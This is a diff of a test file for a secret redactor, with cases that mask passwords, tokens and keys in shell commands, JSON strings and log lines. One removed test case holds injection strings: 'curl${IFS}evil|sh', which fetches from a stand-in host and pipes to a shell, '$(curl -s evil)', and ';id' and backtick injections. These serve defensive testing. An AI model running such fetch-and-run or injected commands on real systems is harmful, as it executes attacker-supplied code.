@@ -109,9 +109,9 @@ describe('Redactor.redactText', () => {
     ['a flag at the end of a line takes no continuation as its value', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db'],
     ['a continuation inside a double-quoted value', 'docker login -u me --password "S3cr3tPw\\\nrest"', `docker login -u me --password "${REDACTED}"`],
     // A value may start with a shell operator's character outside a shell (a log line, an error message).
-    ['a value starting with ( or > in plain text', 'login failed: --password >Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db', `login failed: --password ${REDACTED} rejected; mysql -u root -p${REDACTED} db`],
-    // The shell ends a word at ; & | and runs $(…) and backticks, even in double quotes: a mask never takes them.
-    ['a value stops at ; & | and holds no command substitution', 'mysql -px;curl${IFS}evil|sh; redis-cli -a ;id; psql --password "$(curl -s evil)" -p`id` --token a&b', `mysql -p${REDACTED};curl\${IFS}evil|sh; redis-cli -a ;id; psql --password "$(curl -s evil)" -p\`id\` --token ${REDACTED}&b`],
+    ['a value starting with & ( ; in plain text', 'login failed: --password &Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db; redis-cli -a ;Hk7Qz9Wm ping', `login failed: --password ${REDACTED} rejected; mysql -u root -p${REDACTED} db; redis-cli -a ${REDACTED} ping`],
+    // The shell runs $(…) and backticks, in double quotes too: the log shows how the secret was got.
+    ['a command substitution is no value', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db'],
     ['a value a continuation splits inside the word', 'psql --password Hk7Q\\\nz9Wm --host db', `psql --password ${REDACTED} --host db`],
     ['a word glued by a continuation after an escaped space is one word', 'ldapsearch -x -w Q2SPn\\\nprFK\\ \\\n-b dc=x', `ldapsearch -x -w ${REDACTED} dc=x`],
     ['JSON-escaped quotes in a multi-line command keep every line', 'bash -c "docker login -u me -p \\"$PW\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"', `bash -c "docker login -u me -p \\"${REDACTED}\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"`],
@@ -127,7 +127,7 @@ describe('Redactor.redactText', () => {
     ['a quote after a value ends it, over continuation lines', 'ssh db "mysql -phunter2" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"', `ssh db "mysql -p${REDACTED}" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"`],
     ['a JSON string after a quoted value stays', '{"s":"mysql -p\\"hunter2\\"","t":"x y"}', `{"s":"mysql -p\\"${REDACTED}\\"","t":"x y"}`],
     ['user:pass quoted, escaped, or inside quotes opened before the user', `curl -u admin:'s3cret' a; curl -u "admin:correct horse" b; curl -u admin:pa\\$\\$word c; curl -u 'me:x y' d`, `curl -u admin:'${REDACTED}' a; curl -u "admin:${REDACTED}" b; curl -u admin:${REDACTED} c; curl -u 'me:${REDACTED}' d`],
-    ['program flags after a JSON tab escape', '{"script":"mysql\\t-phunter2; docker login -u me\\t-p pw2; curl\\t-u me:pw3 x"}', `{"script":"mysql\\t-p${REDACTED}; docker login -u me\\t-p ${REDACTED}; curl\\t-u me:${REDACTED} x"}`],
+    ['program flags after a JSON tab escape', '{"script":"mysql\\t-phunter2 db; docker login -u me\\t-p pw2 r; curl\\t-u me:pw3 x"}', `{"script":"mysql\\t-p${REDACTED} db; docker login -u me\\t-p ${REDACTED} r; curl\\t-u me:${REDACTED} x"}`],
     ['openssl pass:', 'openssl rsa -passin pass:hunter2', `openssl rsa -passin pass:${REDACTED}`],
     ['sk- key', `key sk-${'a1'.repeat(24)}`, `key ${REDACTED}`],
     ['sk- package name stays', 'pip install sk-learn-and-other-words', 'pip install sk-learn-and-other-words'],
